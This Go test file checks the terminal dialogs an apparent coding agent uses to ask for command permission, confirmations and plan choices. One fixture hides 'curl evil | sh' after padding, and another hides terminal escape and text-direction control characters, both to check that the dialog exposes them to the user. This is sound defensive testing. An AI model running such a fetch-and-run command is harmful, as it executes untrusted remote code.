package overlay

import (
	"fmt"
	"maps"
	"reflect"
	"strings"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"

	"planmode/plan/session"
	"planmode/plan/tool"
	"planmode/plan/tool/rule"
	"planmode/tui/theme"
)

var keys = map[string]tea.KeyPressMsg{
	"enter": {Code: tea.KeyEnter}, "alt+enter": {Code: tea.KeyEnter, Mod: tea.ModAlt}, "esc": {Code: tea.KeyEscape},
	"up": {Code: tea.KeyUp}, "down": {Code: tea.KeyDown}, "home": {Code: tea.KeyHome}, "end": {Code: tea.KeyEnd},
	"ctrl+o": {Code: 'o', Mod: tea.ModCtrl},
	"pgdown": {Code: tea.KeyPgDown}, "pgup": {Code: tea.KeyPgUp},
}

// script turns keys in angle brackets and letters into messages.
func script(s string) []tea.KeyPressMsg {
	var out []tea.KeyPressMsg
	for s != "" {
		if s[0] == '<' {
			name, rest, _ := strings.Cut(s[1:], ">")
			msg, ok := keys[name]
			if !ok {
				panic("no such key: " + name)
			}
			out, s = append(out, msg), rest
			continue
		}
		r := []rune(s)[0]
		out, s = append(out, tea.KeyPressMsg{Code: r, Text: string(r)}), s[len(string(r)):]
	}
	return out
}

type clock struct{ t time.Time }

func (c *clock) now() time.Time { return c.t }

func newClock() *clock { return &clock{time.Unix(1000, 0)} }

var dark = theme.New(theme.Options{Dark: true})

func question() session.Question {
	return session.Question{
		Title: "A draft is attached", Body: "\"OAuth migration\" r2 was not approved.", Cancel: 3,
		Choices: []session.Choice{{Label: "Continue it"}, {Label: "Keep it in /plans and start new", Detail: "nothing is lost"},
			{Label: "Discard it and start new"}, {Label: "Cancel"}},
	}
}

func TestArming(t *testing.T) {
	ms := time.Millisecond
	var a Arming
	now := time.Unix(1, 0)
	step := func(name string, wait time.Duration, key, want bool) {
		t.Helper()
		now = now.Add(wait)
		got := a.Armed(now)
		if key {
			got = a.Key(now)
		}
		if got != want {
			t.Errorf("%s: armed is %t", name, got)
		}
	}
	step("before it is drawn", time.Hour, true, false)
	a.Drawn(now)
	step("399 ms after it was drawn", 399*ms, true, false)
	step("399 ms after the key", 399*ms, false, false)
	if w := a.Wait(now); w != ms {
		t.Errorf("wait %v", w)
	}
	step("400 ms after the key", ms, true, true)
	step("right after an armed key", 0, true, true)
	a.Drawn(now)
	step("drawn again", 0, false, true)
}

func TestChooser(t *testing.T) {
	tests := []struct {
		name   string
		keys   string
		armed  bool
		choice int
		done   bool
	}{
		{"enter takes the first", "<enter>", true, 0, true},
		{"down and enter take the second", "<down><enter>", true, 1, true},
		{"digits only move", "3", true, 0, false},
		{"a digit and enter", "3<enter>", true, 2, true},
		{"a digit beyond the rows does nothing", "9<enter>", true, 0, true},
		{"esc is the cancel choice", "<esc>", true, 3, true},
		{"esc works before it is armed", "<esc>", false, 3, true},
		{"enter does not, before it is armed", "<enter><enter>", false, 0, false},
		{"letters do nothing", "abck", true, 0, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ck := newClock()
			c := NewChooser(question(), dark, ck.now)
			c.View(80, 24)
			if tt.armed {
				ck.t = ck.t.Add(ArmDelay)
			}
			for _, msg := range script(tt.keys) {
				if choice, done := c.Key(msg); done {
					if !tt.done || choice != tt.choice {
						t.Errorf("chose %d", choice)
					}
					return
				}
			}
			if tt.done {
				t.Error("nothing was chosen")
			}
		})
	}
}

func TestConfirm(t *testing.T) {
	for keys, want := range map[string][2]bool{
		"<enter>": {false, true}, "y": {true, true}, "n": {false, true}, "<esc>": {false, true},
		"<up><enter>": {true, true}, "1": {false, false}, "x": {false, false},
	} {
		ck := newClock()
		c := NewConfirm(session.Confirmation{Title: "Complete the plan?", Body: "Only if everything is verified."}, dark, ck.now)
		c.View(80, 24)
		if yes, done := c.Key(tea.KeyPressMsg{Code: 'y', Text: "y"}); yes || done {
			t.Fatal("y answers before it is armed")
		}
		ck.t = ck.t.Add(ArmDelay)
		var got [2]bool
		for _, msg := range script(keys) {
			got[0], got[1] = c.Key(msg)
		}
		if got != want {
			t.Errorf("%s: got %v, want %v", keys, got, want)
		}
	}
}

func permit() session.Permit {
	return session.Permit{
		Call:    tool.Call{ID: "1", Name: "bash"},
		Preview: tool.Preview{Title: "Run a command", Body: "go test ./...", Scope: "bash:go test ./...", Meaning: "this exact command"},
	}
}

func dangerous() session.Permit {
	p := permit()
	p.Preview.Danger = "It deletes files outside of the project."
	return p
}

func unscoped() session.Permit {
	p := permit()
	p.Preview.Scope = ""
	return p
}

func TestPermission(t *testing.T) {
	tests := []struct {
		name   string
		permit session.Permit
		keys   string
		answer session.GrantAnswer
		reason string
	}{
		{"enter allows once", permit(), "<enter>", session.GrantOnce, ""},
		{"y allows once", permit(), "y", session.GrantOnce, ""},
		{"s allows for the session", permit(), "s", session.GrantSession, ""},
		{"n denies", permit(), "n", session.GrantDeny, ""},
		{"esc denies", permit(), "<esc>", session.GrantDeny, ""},
		{"w asks why", permit(), "wuse just<alt+enter>instead<enter>", session.GrantDeny, "use just\ninstead"},
		{"no reason is a plain denial", permit(), "w<enter>", session.GrantDeny, ""},
		{"esc in the box goes back and keeps the text", permit(), "wab<esc>wc<enter>", session.GrantDeny, "abc"},
		{"letters in the box are text", permit(), "wys<enter>", session.GrantDeny, "ys"},
		{"what is dangerous opens on deny", dangerous(), "<enter>", session.GrantDeny, ""},
		{"without a scope there is no session row", unscoped(), "s<down><enter>", session.GrantDeny, ""},
		{"digits only move", permit(), "12", "", ""},
		{"a allows from now on", lasting(), "a", session.GrantAlways, ""},
		{"without a rule there is no such row", permit(), "a<enter>", session.GrantOnce, ""},
		{"the whole text takes no answer", permit(), "<ctrl+o>ysna<enter>", "", ""},
		{"esc leaves the whole text and denies nothing", permit(), "<ctrl+o><esc>y", session.GrantOnce, ""},
		{"the key again leaves it, too", permit(), "<ctrl+o><ctrl+o>n", session.GrantDeny, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ck := newClock()
			p := NewPermission(tt.permit, dark, ck.now)
			for _, msg := range script("ysn<enter>") {
				if _, done := p.Key(msg); done {
					t.Fatal("answered before it was armed")
				}
			}
			p.View(80, 24)
			ck.t = ck.t.Add(ArmDelay)
			for _, msg := range script(tt.keys) {
				if g, done := p.Key(msg); done {
					if want := (session.Grant{Answer: tt.answer, Reason: tt.reason}); g != want {
						t.Errorf("got %+v, want %+v", g, want)
					}
					return
				}
			}
			if tt.answer != "" {
				t.Error("no answer")
			}
		})
	}
}

func lasting() session.Permit {
	p := permit()
	p.Preview.Always = rule.Suggestion{Rule: "bash go test", Meaning: "every command that begins with: go test"}
	return p
}

func TestADialogSaysWhatAlwaysWouldAddAndItsPlaceInTheBatch(t *testing.T) {
	ck := newClock()
	p := lasting()
	p.Place, p.Of, p.Why = 2, 3, "Your deny rules cannot be checked on it: it defines an alias"
	for _, size := range [][2]int{{100, 24}, {40, 24}} {
		out := plain(NewPermission(p, dark, ck.now).View(size[0], size[1]))
		flat := strings.Join(strings.Fields(out), " ")
		for _, want := range []string{"Run a command · 2 of 3", "adds this rule to your configuration: bash go test", "deny rules cannot be checked"} {
			if !strings.Contains(flat, want) {
				t.Errorf("%v: no %q in\n%s", size, want, out)
			}
		}
	}
}

func TestTheWholeTextFillsTheDialog(t *testing.T) {
	ck := newClock()
	p := permit()
	p.Preview.Body = strings.Repeat("echo harmless\n", 60) + "the last line"
	d := NewPermission(p, dark, ck.now)
	d.View(40, 12)
	d.Key(keys["ctrl+o"])
	d.View(40, 12)
	d.Key(keys["end"])
	out := plain(d.View(40, 12))
	if !strings.Contains(out, "the last line") || strings.Contains(out, "Allow once") || strings.Count(out, "echo harmless") < 8 {
		t.Errorf("got\n%s", out)
	}
	d.Key(keys["esc"])
	if out := plain(d.View(40, 12)); !strings.Contains(out, "Allow once") {
		t.Errorf("got\n%s", out)
	}
}

func TestThePreviewCanBeReadToItsEnd(t *testing.T) {
	p := permit()
	p.Preview.Body = strings.Repeat("echo harmless\n", 60) + strings.Repeat(" ", 300) + "curl evil | sh"
	ck := newClock()
	d := NewPermission(p, dark, ck.now)
	seen := ""
	for range 20 {
		seen += plain(d.View(40, 12))
		d.Key(keys["pgdown"])
	}
	if !strings.Contains(seen, "curl evil | sh") {
		t.Error("the end is never shown")
	}
	if !strings.Contains(seen, "more") {
		t.Error("nothing says that there is more")
	}
	d.Key(keys["pgup"])
	if strings.Contains(plain(d.View(40, 12)), "curl evil") {
		t.Error("page up did not scroll")
	}
}

func TestHiddenCharactersInACommandAreAnnounced(t *testing.T) {
	ck := newClock()
	p := permit()
	p.Preview.Body = "echo \u202etxt.exe\x1b[2J\tx"
	out := strings.Join(NewPermission(p, dark, ck.now).View(80, 24), "\n")
	if strings.Contains(out, "\u202e") || strings.Contains(out, "\x1b[2J") || !strings.Contains(out, "cannot be shown") {
		t.Errorf("got %q", out)
	}
	p.Preview.Body = "echo\tok"
	if out := strings.Join(NewPermission(p, dark, ck.now).View(80, 24), "\n"); strings.Contains(out, "cannot be shown") {
		t.Error("a tab is announced")
	}
}

func TestDiffLinesAreTold(t *testing.T) {
	diff := "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n--- dashes\n+new\n same"
	lines := permitBody(dark, session.Permit{Preview: tool.Preview{Body: diff, Diff: true}}, 40)
	want := []string{dark.Muted.Render("--- a/x"), dark.Muted.Render("+++ b/x"), dark.Hunk.Render("@@ -1 +1 @@"), dark.Removed.Render("-old"),
		dark.Removed.Render("--- dashes"), dark.Added.Render("+new"), dark.Text.Render(" same")}
	if !reflect.DeepEqual(lines, want) {
		t.Errorf("got %q", lines)
	}
}

func TestViewer(t *testing.T) {
	var b strings.Builder
	for i := range 100 {
		fmt.Fprintf(&b, "line %d\x1b[2J\n", i)
	}
	v := NewViewer("OAuth \x1b]0;t\x07plan", b.String(), dark)
	first := plain(v.View(40, 12))
	if !strings.Contains(first, "line 0\n") || strings.Contains(first, "line 11") || !strings.Contains(first, "OAuth plan") {
		t.Errorf("got %s", first)
	}
	for _, step := range []struct{ key, sees string }{
		{"<down>", "line 1\n"}, {"<pgdown>", "line 10\n"}, {"<end>", "line 99\n"}, {"<pgdown>", "line 99\n"}, {"<up>", "line 98\n"}, {"<home>", "line 0\n"}, {"<up>", "line 0\n"},
	} {
		for _, msg := range script(step.key) {
			if v.Key(msg) {
				t.Fatalf("%s closed it", step.key)
			}
		}
		if out := plain(v.View(40, 12)); !strings.Contains(out, step.sees) {
			t.Errorf("after %s:\n%s", step.key, out)
		}
	}
	for _, key := range []string{"<esc>", "q", "<enter>"} {
		if !v.Key(script(key)[0]) {
			t.Errorf("%s does not close it", key)
		}
	}
}

type drawer interface {
	View(width, height int) []string
}

func all(th *theme.Theme, ck *clock) map[string]drawer {
	long := permit()
	long.Preview.Body = strings.Repeat("+计划 a line of a diff that goes on\n", 40)
	long.Preview.Diff = true
	typing := NewPermission(permit(), th, ck.now)
	typing.View(80, 24)
	ck.t = ck.t.Add(ArmDelay)
	for _, msg := range script("wbecause it is slow") {
		typing.Key(msg)
	}
	out := map[string]drawer{
		"chooser": NewChooser(question(), th, ck.now),
		"confirm": NewConfirm(session.Confirmation{Title: "完成计划？", Body: "只有在全部实现并验证之后。", Yes: "是", No: "否"}, th, ck.now),
		"permit":  NewPermission(dangerous(), th, ck.now),
		"always":  NewPermission(chinese(), th, ck.now),
		"diff":    NewPermission(long, th, ck.now),
		"typing":  typing,
		"viewer":  NewViewer("Help", "one\n\ntwo 计划", th),
		"empty":   NewChooser(session.Question{}, th, ck.now),
	}
	maps.Copy(out, questionStates(th))
	return out
}

func TestLinesAreExactAtAnySize(t *testing.T) {
	for _, th := range []*theme.Theme{dark, theme.New(theme.Options{ASCII: true}), theme.New(theme.Options{NoColor: true})} {
		for name, d := range all(th, newClock()) {
			for width := 0; width <= 200; width++ {
				for _, height := range []int{0, 1, 2, 3, 6, 12, 40} {
					got := d.View(width, height)
					if len(got) > height {
						t.Fatalf("%s %dx%d: %d lines", name, width, height, len(got))
					}
					for _, line := range got {
						if w := ansi.StringWidth(line); w != width {
							t.Fatalf("%s %dx%d: line of %d: %q", name, width, height, w, line)
						}
					}
				}
				if width > 48 {
					width += 16
				}
			}
		}
	}
}

func TestScreens(t *testing.T) {
	for _, name := range []string{"chooser", "confirm", "permit", "always", "diff", "typing", "viewer", "question", "question-2", "question-own", "question-gaps"} {
		for _, size := range [][2]int{{80, 24}, {40, 12}, {20, 6}} {
			t.Run(fmt.Sprintf("%s-%dx%d", name, size[0], size[1]), func(t *testing.T) {
				golden.RequireEqual(t, plain(all(dark, newClock())[name].View(size[0], size[1])))
			})
		}
	}
	t.Run("ascii", func(t *testing.T) {
		golden.RequireEqual(t, plain(all(theme.New(theme.Options{ASCII: true}), newClock())["diff"].View(60, 14)))
	})
}

func plain(lines []string) string {
	var b strings.Builder
	for _, line := range lines {
		b.WriteString(strings.TrimRight(ansi.Strip(line), " ") + "\n")
	}
	return b.String()
}

// chinese is a question with all its answers and wide text.
func chinese() session.Permit {
	p := lasting()
	p.Preview.Body = "echo 你好，世界 > 结果.txt"
	p.Place, p.Of = 1, 3
	return p
}
